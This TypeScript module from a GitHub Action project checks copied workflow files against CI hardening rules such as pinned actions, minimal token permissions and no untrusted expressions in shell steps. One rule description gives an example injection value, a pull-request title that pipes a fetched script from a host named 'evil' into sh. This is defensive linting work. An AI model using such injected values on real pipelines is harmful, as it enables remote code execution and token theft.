/**
 * The GitHub workflows users copy — docs/workflows/*.yml, the repository's own .github/workflows/*.yml, and
 * the ```yaml blocks of README.md and of the Markdown files under docs/ that hold a `jobs:` — and the rules
 * each must keep. Shared by the test, by scripts/adversarial-table.ts (so the README lists exactly the files
 * the test checked) and by scripts/lint-workflows.ts (actionlint on the same workflows).
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join, sep } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'yaml';
import type { DeclaredCase } from './declared.js';

const root = fileURLToPath(new URL('../../', import.meta.url));

/** Third-party actions the docs may use, each at the one commit that was verified. */
export const VERIFIED_PINS: Record<string, string> = {
  'actions/checkout': '11bd71901bbe5b1630ceea73d27597364c9af683', // v4.2.2
  'actions/setup-node': '49933ea5288caeca8642d1e84afbd3f7d6820020', // v4.4.0
  'actions/upload-artifact': 'ea165f8d65b6e75b540449e92b4886f43607fa02', // v4.6.2
  'actions/download-artifact': 'd3f86a106a0bac45b974a628896c90dbdf5c8093', // v4.3.0
  'github/codeql-action/upload-sarif': '5d4e8d1aca955e8d8589aabd499c5cae939e33c7', // v4.31.9
};

/**
 * labelguard's own action (and its checkout, for `labelguard comment`) is pinned by full commit SHA like any
 * other, with the release as a comment: `labelguard/labelguard@<sha> # v0.1.0`. The SHA must be a commit
 * of this repository (test/adversarial/workflows.test.ts checks it with git); `scripts/release.mjs` moves
 * every pin to a new release.
 */
export const FIRST_PARTY = 'labelguard/labelguard';

/** A workflow as users would copy it. */
export interface WorkflowSource {
  /** `docs/workflows/labelguard.yml`, or `docs/events.md, “Permissions, forks and pull_request_target”`. */
  name: string;
  /** The file it is in, relative to the repository, and the line of its first line there (1-based). */
  file: string;
  line: number;
  text: string;
}

/** The Markdown files whose ```yaml blocks may hold workflows: README.md and every Markdown file under docs/. */
function markdownFiles(): string[] {
  const docs = readdirSync(join(root, 'docs'), { recursive: true, encoding: 'utf8' })
    .filter((f) => f.endsWith('.md'))
    .map((f) => `docs/${f.split(sep).join('/')}`)
    .sort();
  return ['README.md', ...docs];
}

/** The ```yaml blocks of one Markdown file that hold a `jobs:` (a GitHub workflow), named by section. */
function markdownWorkflows(file: string): WorkflowSource[] {
  const markdown = readFileSync(join(root, file), 'utf8');
  const blocks: WorkflowSource[] = [];
  const seen = new Map<string, number>();
  for (const m of markdown.matchAll(/^```ya?ml\n([\s\S]*?)^```$/gm)) {
    if (!/^jobs:/m.test(m[1]!)) continue;
    // Named after the section it stands in (stable when the file grows), numbered within it.
    const before = markdown.slice(0, m.index).replace(/^```[\s\S]*?^```$/gm, ''); // `# comments` in code are no headings
    const heading = ([...before.matchAll(/^#+ (.+)$/gm)].at(-1)?.[1] ?? 'top').replace(/`/g, '');
    const n = (seen.get(heading) ?? 0) + 1;
    seen.set(heading, n);
    const line = markdown.slice(0, m.index).split('\n').length + 1;
    blocks.push({ name: `${file}, “${heading}”${n > 1 ? ` (${n})` : ''}`, file, line, text: m[1]! });
  }
  return blocks;
}

/** Every workflow the test checks, in a fixed order. */
export function workflowSources(): WorkflowSource[] {
  const files = (dir: string) =>
    readdirSync(join(root, dir))
      .filter((f) => /\.ya?ml$/.test(f))
      .sort()
      .map((f) => ({ name: `${dir}/${f}`, file: `${dir}/${f}`, line: 1, text: readFileSync(join(root, dir, f), 'utf8') }));
  return [...files('docs/workflows'), ...files('.github/workflows'), ...markdownFiles().flatMap(markdownWorkflows)];
}

type Json = Record<string, unknown>;
const obj = (v: unknown): Json => (typeof v === 'object' && v !== null && !Array.isArray(v) ? (v as Json) : {});

interface Step {
  job: string;
  uses?: string;
  run?: string;
  with: Json;
  /** Everything the step says, for finding what it refers to. */
  text: string;
}

function steps(workflow: Json): Step[] {
  return Object.entries(obj(workflow.jobs)).flatMap(([job, j]) =>
    (Array.isArray(obj(j).steps) ? (obj(j).steps as unknown[]) : []).map((s) => {
      const step = obj(s);
      return {
        job,
        ...(typeof step.uses === 'string' && { uses: step.uses }),
        ...(typeof step.run === 'string' && { run: step.run }),
        with: obj(step.with),
        text: JSON.stringify(step),
      };
    }),
  );
}

/** The events a workflow runs on. */
function events(workflow: Json): string[] {
  // YAML 1.1 readers turn a bare `on:` into `true`; the yaml package (1.2) keeps the key.
  const on = workflow.on;
  if (typeof on === 'string') return [on];
  if (Array.isArray(on)) return on.map(String);
  return Object.keys(obj(on));
}

/** One rule every copied workflow keeps, with what it checks. */
export interface WorkflowRule extends DeclaredCase {
  /** The problems of one workflow under this rule (empty: it keeps the rule). */
  check: (workflow: Json) => string[];
}

// Contexts a pull request's author controls, which must never be expanded inside a shell script.
const untrusted =
  /github\.head_ref|github\.event\.(pull_request|issue|comment|review|review_comment|discussion|pages|commits|head_commit|workflow_run)\b/;

export const workflowRules: WorkflowRule[] = [
  {
    id: 'permissions',
    input: '`permissions:` at the top or on every job; never `write-all`',
    expected: 'declared: the token gets only what the workflow names',
    check: (w) => {
      const jobs = Object.entries(obj(w.jobs));
      const declared = 'permissions' in w || (jobs.length > 0 && jobs.every(([, j]) => 'permissions' in obj(j)));
      const all = [w.permissions, ...jobs.map(([, j]) => obj(j).permissions)];
      return [
        ...(declared ? [] : ['no permissions: declared (the token would get the repository default)']),
        ...(all.some((p) => p === 'write-all') ? ['permissions: write-all'] : []),
      ];
    },
  },
  {
    id: 'pinned',
    input: 'every `uses:` pinned to a full 40-hex commit SHA: third-party actions to a verified pin, labelguard to a release commit',
    expected: 'pinned (local `./` actions excepted): a moved tag cannot change what runs',
    check: (w) =>
      steps(w).flatMap((s) => {
        if (!s.uses || s.uses.startsWith('./') || s.uses.startsWith('docker://')) return [];
        const m = /^([\w.-]+\/[\w.-]+(?:\/[\w./-]+)?)@([0-9a-f]{40})$/.exec(s.uses);
        if (!m) return [`${s.job}: \`${s.uses}\` is not pinned to a commit SHA`];
        if (m[1] === FIRST_PARTY) return [];
        return VERIFIED_PINS[m[1]!] === m[2] ? [] : [`${s.job}: \`${s.uses}\` is not a verified pin`];
      }),
  },
  {
    id: 'persist-credentials',
    input: 'every `actions/checkout` sets `persist-credentials: false`, unless the job pushes with git',
    expected: 'no token left in `.git/config` for a later step to use (labelguard writes through the API)',
    check: (w) =>
      Object.entries(obj(w.jobs)).flatMap(([job, j]) => {
        const list = steps({ jobs: { [job]: j } });
        const pushes = list.some((s) => /\bgit push\b/.test(s.run ?? ''));
        // On pull_request_target, labelguard fetches the head commit with the checkout's read-only token.
        const fetchesHead = events(w).includes('pull_request_target') && obj(obj(j).permissions).contents === 'read';
        if (pushes || fetchesHead) return [];
        return list
          .filter((s) => s.uses?.startsWith('actions/checkout@') && s.with['persist-credentials'] !== false)
          .map(() => `${job}: a checkout keeps its credentials (set persist-credentials: false)`);
      }),
  },
  {
    id: 'read-only-pull-requests',
    input: 'jobs that run on `pull_request`, `pull_request_target` or `merge_group` get `contents: read`',
    expected: 'write access only in jobs that refile (push, schedule), never where a pull request is judged',
    check: (w) => {
      const prEvents = events(w).filter((e) => ['pull_request', 'pull_request_target', 'merge_group'].includes(e));
      if (prEvents.length === 0) return [];
      return Object.entries(obj(w.jobs)).flatMap(([job, j]) => {
        const condition = typeof obj(j).if === 'string' ? (obj(j).if as string) : '';
        // A job limited to other events (`if: github.event_name == 'push'`) does not judge pull requests.
        const only = [...condition.matchAll(/github\.event_name\s*==\s*'([\w-]+)'/g)].map((m) => m[1]!);
        if (only.length > 0 && only.every((e) => !prEvents.includes(e))) return [];
        const permissions = 'permissions' in obj(j) ? obj(j).permissions : w.permissions;
        const contents = permissions === 'write-all' ? 'write' : obj(permissions).contents;
        return contents === 'write' ? [`${job}: contents: write in a job that judges pull requests`] : [];
      });
    },
  },
  {
    id: 'no-unused-download',
    input: 'every `actions/download-artifact` step is used: a later step of its job refers to where it wrote',
    expected: 'no artifact downloaded for nothing (a download from a pull request’s run is untrusted input)',
    check: (w) =>
      Object.entries(obj(w.jobs)).flatMap(([job, j]) => {
        const list = steps({ jobs: { [job]: j } });
        return list.flatMap((s, i) => {
          if (!s.uses?.startsWith('actions/download-artifact@')) return [];
          const path = typeof s.with.path === 'string' ? s.with.path : '';
          const later = list.slice(i + 1).map((l) => l.text);
          // An artifact downloaded into the workspace (no path) is used by a step that names its folder.
          const target = path.replace(/^\$\{\{\s*runner\.temp\s*\}\}/, '$RUNNER_TEMP').replace(/\/$/, '');
          // Without a path the files land in the workspace under their own names: a later script uses them.
          if (path === '') return list.slice(i + 1).some((l) => l.run) ? [] : [`${job}: downloads an artifact and no later step uses it`];
          const used =
            later.some((t) => t.includes(path) || t.includes(target) || t.includes(path.replace(/^\$\{\{\s*runner\.temp\s*\}\}\//, '')));
          return used ? [] : [`${job}: downloads ${path || 'an artifact'} and no later step uses it`];
        });
      }),
  },
  {
    id: 'no-expressions-in-run',
    input: 'no `${{ … }}` inside `run:` (titles, branch names, outputs reach the shell through `env:`)',
    expected: 'no script injection: a PR title such as `"; curl evil | sh #` stays data',
    check: (w) =>
      steps(w).flatMap((s) => {
        if (!s.run?.includes('${{')) return [];
        return [`${s.job}: \`run:\` expands ${untrusted.test(s.run) ? 'untrusted pull-request text' : 'an expression'} in the shell`];
      }),
  },
  {
    id: 'no-verbatim-comment',
    input: '`workflow_run` and `pull_request_target`: a comment body file posted with `gh` is rendered by `labelguard comment` in the same job',
    expected: 'nothing a fork’s run produced (Markdown, a forged “passed”, mentions) is posted with the write token',
    check: (w) => {
      if (!events(w).some((e) => e === 'pull_request_target' || e === 'workflow_run')) return [];
      return Object.entries(obj(w.jobs)).flatMap(([job, j]) => {
        const list = steps({ jobs: { [job]: j } });
        return list.flatMap((s, i) => {
          const body = /\bgh (?:pr|issue) comment\b[^\n]*--body-file\s+"?([^"\s]+)"?/.exec(s.run ?? '')?.[1];
          if (body === undefined) return [];
          const rendered = list
            .slice(0, i)
            .some((r) => /\bcomment --report\b/.test(r.run ?? '') && (r.run ?? '').includes(`--output "${body}"`));
          return rendered ? [] : [`${job}: posts ${body}, which labelguard comment did not render in this job`];
        });
      });
    },
  },
  {
    id: 'no-pull-request-checkout',
    input: '`pull_request_target` and `workflow_run`: no checkout of the pull request’s head',
    expected: 'the privileged job never checks out or runs pull-request code',
    check: (w) => {
      if (!events(w).some((e) => e === 'pull_request_target' || e === 'workflow_run')) return [];
      return steps(w).flatMap((s) => {
        if (!s.uses?.startsWith('actions/checkout@')) return [];
        const text = (v: unknown) => (typeof v === 'string' ? v : '');
        const target = `${text(s.with.ref)} ${text(s.with.repository)}`;
        return /head|github\.event|github\.head_ref/.test(target) ? [`${s.job}: checks out ${target.trim()}`] : [];
      });
    },
  },
];

/** Every workflow parsed, with its problems per rule. */
export function workflowProblems(): { source: WorkflowSource; problems: Record<string, string[]> }[] {
  return workflowSources().map((source) => {
    const workflow = obj(parse(source.text) as unknown);
    return { source, problems: Object.fromEntries(workflowRules.map((r) => [r.id, r.check(workflow)])) };
  });
}
